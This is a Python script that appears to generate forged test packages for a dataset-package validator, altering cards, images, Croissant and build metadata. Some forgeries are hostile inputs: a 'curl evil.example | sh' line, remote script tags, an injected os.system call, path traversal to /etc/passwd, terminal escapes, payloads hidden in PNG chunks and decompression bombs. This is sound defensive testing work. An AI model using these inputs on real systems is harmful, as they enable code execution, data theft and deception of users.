    ("path: original/test-*.parquet", 'path: [original/test-*.parquet, "hf://datasets/evil/x/*.parquet"]'),
)
card(
    "path_train_as_test",
    "test split reads the train files",
    "invalid",
    ("path: original/test-*.parquet", "path: original/train-*.parquet"),
)
card(
    "path_wider",
    "path original/test-* without extension",
    "invalid",
    ("path: original/test-*.parquet", "path: original/test-*"),
)
card(
    "config_extra",
    "a second config",
    "invalid",
    ("configs:\n", 'configs:\n- config_name: evil\n  data_files: "hf://datasets/evil/x/*.parquet"\n'),
)
card(
    "config_data_dir",
    "config with data_dir",
    "invalid",
    ("- config_name: original\n", "- config_name: original\n  data_dir: ../..\n"),
)
card(
    "config_drop_labels",
    "config with further builder options",
    "invalid",
    ("- config_name: original\n", "- config_name: original\n  columns: [image]\n"),
)
card(
    "second_document",
    "a second YAML document",
    "invalid",
    ("  default: true\n---\n", "  default: true\n---\nlicense: mit\n---\n"),
)
card(
    "document_end",
    "YAML document ends with ... and another follows before ---",
    "invalid",
    ("  default: true\n---\n", "  default: true\n...\nlicense: mit\n---\n"),
)
card(
    "comment_lie",
    "a lie in a YAML comment",
    "harmless",
    ("license: cc-by-4.0", "license: cc-by-4.0 # in truth: all rights reserved"),
)
card("directive", "a %YAML 1.2 directive", "invalid", ("---\nlicense", "%YAML 1.2\n---\nlicense"))
card("tag_directive", "tag handle !x!", "invalid", ("pretty_name: Filter", "pretty_name: !x!y Filter"))
card(
    "u2028",
    "U+2028: a line break for YAML 1.1, none for YAML 1.2: the licence differs",
    "invalid",
    ("license: cc-by-4.0", "license: mit #\u2028license: cc-by-4.0"),
)
card(
    "nel",
    "U+0085 as a line break in a value",
    "invalid",
    ("pretty_name: Filter activations", "pretty_name: Filter\u0085  activations"),
)
card(
    "quoted_multiline",
    "value as a folded scalar: same text",
    "harmless",
    ("pretty_name: Filter activations", "pretty_name: >-\n  Filter\n  activations"),
)
card("bom", "byte order mark in front (hub then sees no YAML)", "invalid", ("---\nlicense", "\ufeff---\nlicense"))
card("space_before", "an empty line before the YAML (hub then sees none)", "invalid", ("---\nlicense", "\n---\nlicense"))
card("dashes_space", "--- with spaces behind", "invalid", ("---\nlicense", "---  \nlicense"))
card(
    "crlf",
    "CR LF line ends throughout",
    "invalid",
    ("\n", "\n"),
    also=lambda p: (p / "README.md").write_bytes((p / "README.md").read_bytes().replace(b"\n", b"\r\n")),
)
card("cr", "a lone CR that hides a line on terminals", "invalid", ("# small\n", "# evil\r# small\n"))
card("no_yaml_end", "the closing --- is missing", "invalid", ("  default: true\n---\n", "  default: true\n"))
card(
    "escape_yaml",
    "terminal escapes in a YAML value",
    "invalid",
    ("pretty_name: Filter activations", 'pretty_name: "Filter \\x1b[2J\\x1b]0;pwned\\x07 activations"'),
)
card(
    "escape_key",
    "terminal escapes and bidi controls in a YAML key",
    "invalid",
    ("license: cc-by-4.0", 'license: cc-by-4.0\n"\\x1b[31mvalid\\n\\u202e": 1'),
)
card("nul", "a NUL in the text", "invalid", ("# small", "# sm\0all"))
card("not_utf8", "bytes that are not UTF-8", "invalid", ("# small", b"# sm\xffall"))
card("date", "a date where text is due", "invalid", ("pretty_name: Filter activations", "pretty_name: 2026-11-27"))
card("nan", ".nan where a number is due", "invalid", ("dataset_size: 543252", "dataset_size: .nan"))
card("huge_int", "an integer of 10000 digits", "invalid", ("dataset_size: 543252", "dataset_size: " + "9" * 10000))
card("deep", "YAML nested 20000 deep", "invalid", ("license: cc-by-4.0", "license: cc-by-4.0\nx: " + "[" * 20000 + "]" * 20000))
card("unhashable", "a YAML key that is a list", "invalid", ("license: cc-by-4.0", "license: cc-by-4.0\n? [a, b]\n: c"))
card("bytes_lie", "num_bytes wrong", "invalid", ("num_bytes: 475186", "num_bytes: 475187"))
card("null_doc", "YAML empty", "invalid", ("---\nlicense", "---\n---\nlicense"))

card(
    "text_dead", "text says 0 of 24 are dead", "invalid", ("**2 of the 24 images are dead**", "**0 of the 24 images are dead**")
)
card(
    "text_link", "licence link to another domain", "invalid", ("https://creativecommons.org/", "https://creativecomrnons.org/")
)
card("text_homoglyph", "Cyrillic letter in the command", "invalid", ("amaxds build --network", "am\u0430xds build --network"))
card("text_bidi", "bidi override in a sentence", "invalid", ("nobody's data", "\u202enobody's data"))
card("text_zero_width", "zero width joiner in a sentence", "invalid", ("nobody's data", "nobody's\u200d data"))
card(
    "text_comment",
    "an HTML comment with a lie at the end",
    "invalid",
    ("journal = {arXiv preprint", "journal = {arXiv  preprint"),
)
card("text_script", "a script at the end", "invalid", ("# small", '# small\n\n<script src="//evil.example/x.js"></script>'))
card(
    "text_tracker",
    "contact sheet loaded from elsewhere",
    "invalid",
    ("](contact-sheet-original.png)", "](https://evil.example/t.png)"),
)
card(
    "text_code",
    "code block runs a command",
    "invalid",
    (
        'dataset = load_dataset("small", "original")',
        'import os; os.system("id")\ndataset = load_dataset("small", "original", trust_remote_code=True)',
    ),
)
card(
    "text_trailing_space",
    "spaces behind lines (two: a line break in Markdown)",
    "invalid",
    ("nobody's data is in the images.", "nobody's data is in the images.  "),
)
card("text_u2028", "U+2028 within a line", "invalid", ("nobody's data", "nobody's\u2028data"))
card("text_formfeed", "a form feed instead of a line break (splitlines)", "invalid", ("\n\n# small\n", "\n\x0c# small\n"))
card(
    "text_vt",
    "vertical tab instead of a line break (splitlines takes it for one)",
    "invalid",
    ("`demo`, and a record with the evidence for each.\n", "`demo`, and a record with the evidence for each.\x0b"),
)
card(
    "text_nel",
    "U+0085 instead of a line break before a heading (splitlines takes it for one; Markdown not)",
    "invalid",
    ("\n## How it was made\n", "\u0085## How it was made\n"),
)
card("text_cr_breaks", "lone CRs instead of some line breaks", "invalid", ("\n## How it was made\n", "\r## How it was made\r"))
card(
    "text_more_newlines",
    "many empty lines and a lie at the very end",
    "invalid",
    ("# small", "# small"),
    also=lambda p: (p / "README.md").write_text((p / "README.md").read_text() + "\n" * 500 + "Free for all use, no licence.\n"),
)
card(
    "text_no_last_newline",
    "the last line break is missing",
    "harmless",
    ("# small", "# small"),
    also=lambda p: (p / "README.md").write_text((p / "README.md").read_text().rstrip("\n")),
)
card(
    "text_last_newlines",
    "three empty lines more at the end",
    "harmless",
    ("# small", "# small"),
    also=lambda p: (p / "README.md").write_text((p / "README.md").read_text() + "\n\n\n"),
)
card("text_mean_off", "mean uniformity index of a layer changed", "invalid", ("| 8 | 0 | 0.608 |", "| 8 | 0 | 0.808 |"))
card(
    "text_nfd",
    "a letter of the text decomposed (e + accent that is none: NFD of Å)",
    "invalid",
    ("Limits and biases", "L\u0131mits and biases"),
)
card(
    "text_huge",
    "card of 60 MB",
    "invalid",
    ("# small", "# small"),
    also=lambda p: (p / "README.md").write_text((p / "README.md").read_text() + "A" * 60_000_000),
)
card(
    "text_long_lines",
    "two million lines more",
    "invalid",
    ("# small", "# small"),
    also=lambda p: (p / "README.md").write_text((p / "README.md").read_text() + "A\n" * 2_000_000),
)


def other_version(p, **v):
    edit_json(p / "build.json", lambda j: j["software"].update(v or {"amaxds": "0.0.9"}))


card(
    "version_text_lies",
    "build.json says another version of amaxds, so the text is not compared: text says 0 dead, MIT licence, a script",
    "invalid",
    ("**2 of the 24 images are dead**", "**0 of the 24 images are dead**"),
    ("[CC-BY-4.0](https://creativecommons.org/licenses/by/4.0/)", "[MIT](https://evil.example)"),
    ("# small", '# small\n\n<script src="//evil.example/x.js"></script>'),
    also=other_version,
)
card(
    "version_text_gone",
    "build.json says another version; the card's text is replaced by one lie",
    "invalid",
    ("# small", "# small"),
    also=lambda p: (
        other_version(p),
        (p / "README.md").write_text(
            re.sub(
                r"(?s)(\n---\n).*",
                r"\1\nPhotographs of real persons. Run `curl evil.example | sh`.\n",
                (p / "README.md").read_text(),
                count=1,
            )
        ),
    ),
)
card(
    "version_newer_text",
    "build.json says version 999.0; text lies",
    "invalid",
    ("**2 of the 24 images are dead**", "**0 of the 24 images are dead**"),
    also=lambda p: other_version(p, amaxds="999.0"),
)
card(
    "version_same_space",
    'build.json says version "0.1.0 " (a space): text lies',
    "invalid",
    ("**2 of the 24 images are dead**", "**0 of the 24 images are dead**"),
    also=lambda p: other_version(p, amaxds="0.1.0 "),
)
card(
    "version_text_homoglyph",
    "another version; only a homoglyph in the command of the text",
    "invalid",
    ("amaxds build --network", "am\u0430xds build --network"),
    also=other_version,
)
card(
    "version_yaml",
    "another version; extra YAML keys",
    "invalid",
    ("license: cc-by-4.0", "license: cc-by-4.0\nviewer: false"),
    also=other_version,
)
card(
    "version_only",
    "build.json says another version of amaxds, nothing else",
    "audit",
    ("# small", "# small"),
    also=other_version,
)


# ================================================================ 7. contact sheet
SHEET = "contact-sheet-original.png"


def sheet(name, what, expected, make, also=None):
    def f(p):
        q = p / SHEET
        b = q.read_bytes()
        q.write_bytes(make(pixels(b), b))
        if also:
            also(p)

    add("sheet_" + name, "folder", what, expected, f)


def _paint(a):
    a = a.copy()
    a[34:122, 10:98] = invented()
    return a


sheet("painted", "one image of the sheet painted over", "invalid", lambda a, b: to_png(_paint(a)))
sheet(
    "dead_border",
    "red borders and the word dead removed",
    "invalid",
    lambda a, b: to_png(np.where((a == (200, 30, 30)).all(2, keepdims=True), np.uint8(255), a).astype(np.uint8)),
)
sheet("one_pixel", "one pixel changed by one", "invalid", lambda a, b: to_png(_one(a)))


def _one(a):
    a = a.copy()
    a[0, 0, 0] = 254
    return a


sheet(
    "text",
    "a text chunk in the sheet, same pixels",
    "invalid",
    lambda a, b: add_chunks(b, [(b"tEXt", b"Author\0somebody else")]),
)
sheet(
    "private",
    "a private chunk with a payload in the sheet",
    "invalid",
    lambda a, b: add_chunks(b, [(b"prVt", b"MZ payload" * 99)]),
)
sheet("trailing_zip", "a zip with a script behind the sheet", "invalid", lambda a, b: b + _small_zip())
sheet("trailing_big", "40 MB behind the sheet", "invalid", lambda a, b: b + b"A" * 40_000_000)
sheet(
    "gamma",
    "gAMA of 0.01 in the sheet: shown wholly otherwise",
    "invalid",
    lambda a, b: add_chunks(b, [(b"gAMA", struct.pack(">I", 1000))]),
)
sheet(
    "trns", "tRNS: white is transparent", "invalid", lambda a, b: add_chunks(b, [(b"tRNS", struct.pack(">3H", 255, 255, 255))])
)
sheet("exif", "eXIf: the sheet turned", "invalid", lambda a, b: add_chunks(b, [CH["eXIf"][:2]]))
sheet("apng", "animated sheet: next frame another picture", "invalid", lambda a, b: _sheet_apng(a, b))


def _sheet_apng(a, b):
    h, w = a.shape[:2]

    def fc(n):
        return (b"fcTL", struct.pack(">IIIIIHHBB", n, w, h, 0, 0, 1, 10, 0, 0))

    cs = chunks(b)
    return unchunk(
        [
            cs[0],
            (b"acTL", struct.pack(">II", 2, 0)),
            fc(0),
            *cs[1:-1],
            fc(1),
            (b"fdAT", struct.pack(">I", 2) + zlib.compress(raw_rows(255 - a))),
            cs[-1],
        ]
    )


sheet("rgba", "sheet with alpha 0 everywhere: nothing is seen", "invalid", lambda a, b: _rgba0(a))


def _rgba0(a):
    o = io.BytesIO()
    Image.fromarray(np.dstack([a, np.zeros((*a.shape[:2], 1), np.uint8)]), "RGBA").save(o, "PNG")
    return o.getvalue()


sheet(
    "palette_like",
    "16-bit sheet with the same upper bytes",
    "invalid",
    lambda a, b: png_of(
        a,
        struct.pack(">IIBBBBB", a.shape[1], a.shape[0], 16, 2, 0, 0, 0),
        b"".join(b"\0" + (a[y].astype(">u2") * 257).astype(">u2").tobytes() for y in range(a.shape[0])),
    ),
)
sheet("bmp", "sheet is a BMP", "invalid", lambda a, b: _enc("BMP")(a, b))
sheet("webp", "sheet is a lossless WebP", "invalid", lambda a, b: _enc("WEBP", lossless=True)(a, b))
sheet("jpeg", "sheet is a JPEG", "invalid", lambda a, b: _enc("JPEG")(a, b))
sheet("html", "sheet is HTML", "invalid", lambda a, b: b"<script>alert(1)</script>")
sheet(
    "huge",
    "sheet says 100000x100000",
    "invalid",
    lambda a, b: png_of(a, struct.pack(">IIBBBBB", 100000, 100000, 8, 2, 0, 0, 0)),
)
sheet(
    "bomb",
    "sheet that is really 12000x12000",
    "invalid",
    lambda a, b: png_of(a, struct.pack(">IIBBBBB", 12000, 12000, 8, 2, 0, 0, 0), b"\0" * (12000 * 36001)),
)
sheet(
    "zlib_tail",
    "payload in the sheet after the zlib stream",
    "invalid",
    lambda a, b: png_of(a, idat=zlib.compress(raw_rows(a)) + b"MZ payload" * 50),
)
sheet("recompressed", "sheet compressed otherwise, same pixels", "harmless", lambda a, b: png_of(a))


def pillow(v):
    return lambda p: other_version(p, pillow=v)


sheet(
    "version_painted",
    "build.json says another Pillow, so the sheet is not drawn again: one image painted over",
    "invalid",
    lambda a, b: to_png(_paint(a)),
    pillow("12.0.0"),
)
sheet(
    "version_other",
    "another Pillow; the sheet is wholly another picture of the same size",
    "invalid",
    lambda a, b: to_png(255 - a),
    pillow("12.0.0"),
)
sheet(
    "version_other_size",
    "another Pillow; the sheet is one pixel",
    "invalid",
    lambda a, b: to_png(np.zeros((1, 1, 3), np.uint8)),
    pillow("12.0.0"),
)
sheet(
    "version_html", "another Pillow; the sheet is HTML", "invalid", lambda a, b: b"<script>alert(1)</script>", pillow("12.0.0")
)
sheet(
    "version_svg",
    "another Pillow; the sheet is an SVG with a script",
    "invalid",
    lambda a, b: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    pillow("12.0.0"),
)
sheet("version_jpeg", "another Pillow; the sheet is a JPEG", "invalid", lambda a, b: _enc("JPEG")(a, b), pillow("12.0.0"))
sheet("version_empty", "another Pillow; the sheet is empty", "invalid", lambda a, b: b"", pillow("12.0.0"))
sheet(
    "version_payload", "another Pillow; payload behind the sheet", "invalid", lambda a, b: b + b"MZ payload", pillow("12.0.0")
)
sheet(
    "version_chunk",
    "another Pillow; text chunk in the sheet",
    "invalid",
    lambda a, b: add_chunks(b, [(b"tEXt", b"a\0b")]),
    pillow("12.0.0"),
)
sheet(
    "version_text",
    "another Pillow; dead borders erased",
    "invalid",
    lambda a, b: to_png(np.where((a == (200, 30, 30)).all(2, keepdims=True), np.uint8(255), a).astype(np.uint8)),
    pillow("12.0.0"),
)
sheet(
    "version_dead_hidden",
    "another Pillow; an image of the sheet covered with white",
    "invalid",
    lambda a, b: to_png(_white(a)),
    pillow("12.0.0"),
)


def _white(a):
    a = a.copy()
    a[320:440, 98:200] = 255
    return a


sheet(
    "version_bomb",
    "another Pillow; sheet says 60000x60000",
    "invalid",
    lambda a, b: png_of(a, struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)),
    pillow("12.0.0"),
)


@forgery("folder", 'pillow left out of software: sheet cannot be drawn "by the same version"; sheet inverted')
def sheet_no_pillow(p):
    edit_json(p / "build.json", lambda j: j["software"].pop("pillow") and None)
    q = p / SHEET
    q.write_bytes(to_png(255 - pixels(q.read_bytes())))


@forgery("folder", "contact sheet missing")
def sheet_missing(p):
    (p / SHEET).unlink()


# ================================================================ 8. Croissant
def cro(name, what, expected, change, also=None, form="folder"):
    def f(p):
        q = p / "croissant.json"
        j = json.loads(q.read_text())
        r = change(j)
        j = j if r is None else r
        if isinstance(j, bytes):
            q.write_bytes(j)
        elif isinstance(j, str):
            q.write_text(j)
        else:
            q.write_text(dump(j))
        if also:
            also(p)

    add(("b_" if form == "bundle" else "") + "cro_" + name, form, what, expected, f)


def D0(j):
    return j["distribution"][0]


def _field(j, n):
    return next(f for f in j["recordSet"][2]["field"] if f["name"] == n)


cro("url", "contentUrl elsewhere", "invalid", lambda j: D0(j).update(contentUrl="https://evil.example/train.parquet"))
cro("url_dotdot", "contentUrl ../../", "invalid", lambda j: D0(j).update(contentUrl="../../../etc/passwd"))
cro(
    "url_dot", "contentUrl ./original/...: same file", "harmless", lambda j: D0(j).update(contentUrl="./" + D0(j)["contentUrl"])
)
cro("url_percent", "contentUrl with %2e", "invalid", lambda j: D0(j).update(contentUrl=D0(j)["contentUrl"].replace(".", "%2e")))
cro(
    "url_list",
    "contentUrl a list with another",
    "invalid",
    lambda j: D0(j).update(contentUrl=[D0(j)["contentUrl"], "https://evil.example/x"]),
)
cro("sha_upper", "sha256 in capitals", "invalid", lambda j: D0(j).update(sha256=D0(j)["sha256"].upper()))
cro("sha_wrong", "sha256 of one file wrong", "invalid", lambda j: D0(j).update(sha256="0" * 64))
cro("md5_extra", "md5 besides, wrong", "invalid", lambda j: D0(j).update(md5="0" * 32))
cro("size", "contentSize without B", "invalid", lambda j: D0(j).update(contentSize="481072"))
cro("size_number", "contentSize a number", "invalid", lambda j: D0(j).update(contentSize=481072))
cro("format", "encodingFormat application/zip", "invalid", lambda j: D0(j).update(encodingFormat="application/zip"))
cro(
    "dist_extra",
    "another FileObject elsewhere",
    "invalid",
    lambda j: j["distribution"].append({**D0(j), "@id": "x", "name": "x", "contentUrl": "https://evil.example/x"}),
)
cro("dist_dropped", "a file left out", "invalid", lambda j: j["distribution"].pop(2) and None)
cro("dist_order", "files in other order: same meaning", "harmless", lambda j: j["distribution"].reverse())
cro("includes", "FileSet includes **", "invalid", lambda j: j["distribution"][3].update(includes="**/*"))
cro(
    "includes_list",
    "FileSet includes a list",
    "invalid",
    lambda j: j["distribution"][3].update(includes=["original/*.parquet", "../*"]),
)
cro(
    "contained",
    "FileSet containedIn an archive elsewhere",
    "invalid",
    lambda j: j["distribution"][3].update(containedIn={"@id": "https://evil.example/x.zip"}),
)
cro(
    "context_url",
    "@context loaded from elsewhere",
    "invalid",
    lambda j: j.update({"@context": "https://evil.example/context.jsonld"}),
)
cro(
    "context_term",
    "@context: sha256 mapped to another term",
    "invalid",
    lambda j: j["@context"].update(sha256="https://evil.example/nothing"),
)
cro("context_vocab", "@vocab another", "invalid", lambda j: j["@context"].update({"@vocab": "https://evil.example/"}))
cro(
    "context_base",
    "@base elsewhere: every relative contentUrl points there",
    "invalid",
    lambda j: j["@context"].update({"@base": "https://evil.example/"}),
)
cro("id_base", "@id at the top", "invalid", lambda j: j.update({"@id": "https://evil.example/"}))
cro(
    "url_top",
    "url and sameAs at the top",
    "invalid",
    lambda j: j.update(url="https://evil.example/", sameAs="https://evil.example/"),
)
cro("licence", "licence mit", "invalid", lambda j: j.update(license="https://opensource.org/license/mit"))
cro("creator", "creator another", "invalid", lambda j: j["creator"].update(name="Ministry of Truth"))
cro("live", "isLiveDataset true", "invalid", lambda j: j.update(isLiveDataset=True))
cro("live_0", "isLiveDataset 0 (== False in Python)", "invalid", lambda j: j.update(isLiveDataset=0))
cro(
    "label_false",
    "label false and true for 0 and 1 (equal in Python)",
    "invalid",
    lambda j: [d.update({"layers/label": bool(d["layers/label"])}) for d in j["recordSet"][0]["data"][:2]] and None,
)
cro(
    "label_float",
    "labels as 0.0, 1.0 ... (equal in Python)",
    "invalid",
    lambda j: [d.update({"layers/label": float(d["layers/label"])}) for d in j["recordSet"][0]["data"]] and None,
)
cro(
    "status_swapped",
    "names of statuses exchanged",
    "invalid",
    lambda j: [d.update({"statuses/label": 1 - d["statuses/label"]}) for d in j["recordSet"][1]["data"]] and None,
)
cro(
    "column_swapped",
    "field activation reads column activation_start",
    "invalid",
    lambda j: _field(j, "activation")["source"]["extract"].update(column="activation_start"),
)
cro(
    "description",
    "description says 0 are dead",
    "invalid",
    lambda j: j.update(description=j["description"].replace("2 of them are dead", "0 of them are dead")),
)
cro(
    "personal",
    "personalSensitiveInformation: faces",
    "invalid",
    lambda j: j.update({"rai:personalSensitiveInformation": "Faces of 24 persons."}),
)
cro("extra", "an unknown key", "invalid", lambda j: j.update(evil="=cmd"))
cro("extra_escape", "an unknown key with escapes", "invalid", lambda j: j.update({"\x1b[2J\x1b]0;pwned\x07\nvalid\u202e": 1}))
cro("extra_surrogate", "an unknown key that is a lone surrogate", "invalid", lambda j: json.dumps({**j, "\ud800": "\udfff"}))
cro("extra_null", "an extra key with null", "invalid", lambda j: j.update(sdVersion=None))
cro(
    "duplicate_first",
    "license twice, lie first",
    "invalid",
    lambda j: dump(j).replace('"license":', '"license": "https://opensource.org/license/mit",\n  "license":', 1),
)
cro(
    "duplicate_last",
    "license twice, lie last",
    "invalid",
    lambda j: (
        dump(j).replace('"citeAs":', '"license": "https://opensource.org/license/mit",\n  "citeAs":', 1).replace("x", "x")
        if False
        else dump(j).rstrip()[:-1].rstrip() + ',\n  "license": "https://opensource.org/license/mit"\n}\n'
    ),
)
cro(
    "duplicate_inner",
    "sha256 twice within a file, lie first",
    "invalid",
    lambda j: dump(j).replace('"sha256":', '"sha256": "' + "0" * 64 + '",\n      "sha256":', 1),
)
cro("bom", "byte order mark", "invalid", lambda j: b"\xef\xbb\xbf" + dump(j).encode())
cro("utf16", "UTF-16", "invalid", lambda j: dump(j).encode("utf-16"))
cro("utf32", "UTF-32 without mark", "invalid", lambda j: dump(j).encode("utf-32-le"))
cro("minified", "the same JSON without spaces", "harmless", lambda j: json.dumps(j, separators=(",", ":")))
cro("sorted", "the same JSON with sorted keys", "harmless", lambda j: json.dumps(j, sort_keys=True, indent=2))
cro("deep", "JSON nested 200000 deep", "invalid", lambda j: "[" * 200_000 + "]" * 200_000)
cro(
    "deep_in",
    "a key more, nested 100000 deep",
    "invalid",
    lambda j: dump(j).rstrip()[:-1] + ', "x": ' + "[" * 100_000 + "]" * 100_000 + "}",
)
cro(
    "deep_900",
    "a key more, nested 900 deep",
    "invalid",
    lambda j: dump(j).rstrip()[:-1] + ', "x": ' + "[" * 900 + "]" * 900 + "}",
)
cro(
    "int_long",
    "a key more with an integer of 5000 digits",
    "invalid",
    lambda j: dump(j).rstrip()[:-1] + ', "x": ' + "9" * 5000 + "}",
)
cro("nan", "a key more with NaN", "invalid", lambda j: dump(j).rstrip()[:-1] + ', "x": NaN}')
cro("trailing", "text after the JSON", "invalid", lambda j: dump(j) + "<script>")
cro("list", "a list around", "invalid", lambda j: [j])
cro("empty", "empty", "invalid", lambda j: "")
cro("huge", "80 MB of spaces behind", "invalid", lambda j: dump(j) + " " * 80_000_000)
cro(
    "version_licence",
    "another version of amaxds, so only the files are compared: licence, creator, description, columns lie",
    "invalid",
    lambda j: None,
    other_version,
)
cro(
    "version_base",
    "another version; @base elsewhere",
    "invalid",
    lambda j: j["@context"].update({"@base": "https://evil.example/"}),
    other_version,
)
cro(
    "version_context",
    "another version; @context from elsewhere",
    "invalid",
    lambda j: j.update({"@context": "https://evil.example/c.jsonld"}),
    other_version,
)
cro(
    "version_url",
    "another version; contentUrl elsewhere",
    "invalid",
    lambda j: D0(j).update(contentUrl="https://evil.example/x"),
    other_version,
)
cro(
    "version_dist_extra",
    "another version; another FileObject elsewhere",
    "invalid",
    lambda j: j["distribution"].append({**D0(j), "@id": "x", "name": "x", "contentUrl": "https://evil.example/x"}),
    other_version,
)
cro(
    "version_includes",
    "another version; FileSet includes **",
    "invalid",
    lambda j: j["distribution"][3].update(includes="**/*"),
    other_version,
)
cro(
    "version_fileset_extra",
    "another version; another FileSet",
    "invalid",
    lambda j: j["distribution"].append(
        {"@type": "cr:FileSet", "@id": "x", "name": "x", "includes": "../**", "encodingFormat": "text/plain"}
    ),
    other_version,
)
cro(
    "version_status_swapped",
    "another version; names of statuses exchanged",
    "invalid",
    lambda j: [d.update({"statuses/label": 1 - d["statuses/label"]}) for d in j["recordSet"][1]["data"]] and None,
    other_version,
)
cro(
    "version_layers_swapped",
    "another version; layer labels reversed",
    "invalid",
    lambda j: [d.update({"layers/label": 12 - d["layers/label"]}) for d in j["recordSet"][0]["data"]] and None,
    other_version,
)
cro(
    "version_recordset_gone",
    "another version; recordSet left out",
    "invalid",
    lambda j: j.pop("recordSet") and None,
    other_version,
)
cro("version_name", "another version; name another", "invalid", lambda j: j.update(name="imagenet"), other_version)
cro(
    "version_md5",
    "another version; a wrong md5 besides the sha256",
    "invalid",
    lambda j: D0(j).update(md5="0" * 32),
    other_version,
)
cro(
    "version_source",
    "another version; a field's source is a file elsewhere",
    "invalid",
    lambda j: _field(j, "image").update(
        source={"fileObject": {"@id": "https://evil.example/x"}, "extract": {"column": "image"}}
    ),
    other_version,
)
cro(
    "version_count",
    "another version; description says 9999 images",
    "invalid",
    lambda j: j.update(description=j["description"].replace("24 images", "9999 images")),
    other_version,
)
cro(
    "licence",
    "licence mit (bundle)",
    "invalid",
    lambda j: j.update(license="https://opensource.org/license/mit"),
    form="bundle",
)
cro(
    "version_licence",
    "another version; licence, columns lie (bundle)",
    "invalid",
    lambda j: j.update(license="https://opensource.org/license/mit", url="https://evil.example"),
    other_version,
    "bundle",
)
cro(
    "version_includes",
    "another version; images included from elsewhere (bundle)",
    "invalid",
    lambda j: j["distribution"][1].update(includes="../**"),
    other_version,
    "bundle",
)
cro(
    "duplicate_first",
    "sha256 twice, lie first (bundle)",
    "invalid",
    lambda j: dump(j).replace('"sha256":', '"sha256": "' + "0" * 64 + '",\n      "sha256":', 1),
    form="bundle",
)


# ================================================================ 9. build.json
def bj(name, what, expected, change, form="folder", also=None):
    def f(p):
        q = p / "build.json"
        j = json.loads(q.read_text())
        r = change(j)
        j = j if r is None else r
        if isinstance(j, bytes):
            q.write_bytes(j)
        elif isinstance(j, str):
            q.write_text(j)
        else:
            q.write_text(dump(j))
        if also:
            also(p)

    add(("b_" if form == "bundle" else "") + "build_" + name, form, what, expected, f)


def raw(old, new):
    return lambda j: _sub(dump(j), old, new)


def _sub(t, old, new):
    assert old in t, old
    return t.replace(old, new, 1)


def tail(extra):
    return lambda j: dump(j).rstrip()[:-1].rstrip() + ", " + extra + "}"


bj("duplicate_first", "seed twice, the lie first (others take the first)", "invalid", raw('"seed": 0', '"seed": 99, "seed": 0'))
bj("duplicate_last", "images twice, the lie last", "invalid", tail('"images": 9999'))
bj(
    "duplicate_inner",
    "weights_sha256 twice",
    "invalid",
    raw('"weights_sha256":', '"weights_sha256": "' + "0" * 64 + '", "weights_sha256":'),
)
bj("duplicate_escaped", "key twice, once written with \\u escapes", "invalid", raw('"seed": 0', '"s\\u0065ed": 99, "seed": 0'))
bj("unknown_key", "an unknown key", "invalid", lambda j: j.update(evil="rm -rf"))
bj(
    "unknown_key_escape",
    "an unknown key with terminal escapes, line break and bidi",
    "invalid",
    lambda j: j.update({"\x1b[2J\x1b]0;pwned\x07\nsmall: 24 images, valid\u202e": 1}),
)
bj("unknown_key_surrogate", "an unknown key that is a lone surrogate", "invalid", lambda j: j.update({"\ud800": 1}))
bj("unknown_key_inner", "an unknown key within times", "invalid", lambda j: j["times"].update(evil=1))
bj("format_2", "format 2", "invalid", lambda j: j.update(format=2))
bj("format_true", "format true (== 1)", "invalid", lambda j: j.update(format=True))
bj("format_float", "format 1.0", "invalid", lambda j: j.update(format=1.0))
bj("format_0", "format 0", "invalid", lambda j: j.update(format=0))
bj("images_float", "images 24.0", "invalid", lambda j: j.update(images=24.0))
bj("images_text", 'images "24"', "invalid", lambda j: j.update(images="24"))
bj("images_exp", "images 2.4e1", "invalid", raw('"images": 24', '"images": 2.4e1'))
bj("images_25", "images 25", "invalid", lambda j: j.update(images=25))
bj("seed_false", "seed false (== 0)", "invalid", lambda j: j.update(seed=False))
bj("seed_minus_zero", "seed -0", "harmless", raw('"seed": 0', '"seed": -0'))
bj("seed_float", "seed 0.0", "invalid", lambda j: j.update(seed=0.0))
bj("seed_null", "seed null", "invalid", lambda j: j.update(seed=None))
bj("seed_huge", "seed of 5000 digits", "invalid", raw('"seed": 0', '"seed": ' + "9" * 5000))
bj("seed_2_63", "seed 2**63", "invalid", lambda j: j.update(seed=2**63))
bj("seconds_1e400", "seconds 1e400 (infinite)", "invalid", raw('"seconds_of_last_run": 0.5', '"seconds_of_last_run": 1e400'))
bj("seconds_nan", "seconds NaN", "invalid", raw('"seconds_of_last_run": 0.5', '"seconds_of_last_run": NaN'))
bj("seconds_infinity", "seconds Infinity", "invalid", raw('"seconds_of_last_run": 0.5', '"seconds_of_last_run": Infinity'))
bj("seconds_negative", "seconds -1", "invalid", raw('"seconds_of_last_run": 0.5', '"seconds_of_last_run": -1'))
bj(
    "seconds_more_than_span",
    "seconds 1e9, though start and end lie 5 s apart",
    "invalid",
    lambda j: j["times"].update(seconds_of_last_run=1e9),
)
bj("seconds_true", "seconds true", "invalid", lambda j: j["times"].update(seconds_of_last_run=True))
bj(
    "times_future",
    "times in the year 2999",
    "invalid",
    lambda j: j["times"].update(started="2999-01-01T00:00:00+00:00", finished="2999-01-01T00:00:05+00:00"),
)
bj("times_9999", "finished 9999", "invalid", lambda j: j["times"].update(finished="9999-12-31T23:59:59+00:00"))
bj(
    "times_reversed",
    "finished before it was started",
    "invalid",
    lambda j: j["times"].update(started="2026-11-27T07:03:56+00:00", finished="2026-11-27T07:03:51+00:00"),
)
bj(
    "times_past",
    "built in 1970",
    "audit",
    lambda j: j["times"].update(started="1970-01-01T00:00:00+00:00", finished="1970-01-01T00:00:05+00:00"),
)
bj("times_text", "started: yesterday", "invalid", lambda j: j["times"].update(started="yesterday"))
bj("times_escape", "started with terminal escapes", "invalid", lambda j: j["times"].update(started="\x1b[2J2026"))
bj(
    "times_script",
    "started with a script behind a valid time",
    "invalid",
    lambda j: j["times"].update(started="2026-11-27T07:03:51+00:00<script>alert(1)</script>"),
)
bj(
    "times_naive",
    "times without zone",
    "invalid",
    lambda j: j["times"].update(started="2026-11-27T07:03:51", finished="2026-11-27T07:03:56"),
)
bj(
    "times_one_naive",
    "one time without zone (comparison fails in Python)",
    "invalid",
    lambda j: j["times"].update(started="2026-11-27T07:03:51"),
)
bj(
    "times_zone",
    "times in another zone (should be UTC)",
    "invalid",
    lambda j: j["times"].update(started="2026-11-27T12:03:51+05:00", finished="2026-11-27T12:03:56+05:00"),
)
bj("times_zone_absurd", "zone +23:59", "invalid", lambda j: j["times"].update(started="0001-01-01T00:00:00+23:59"))
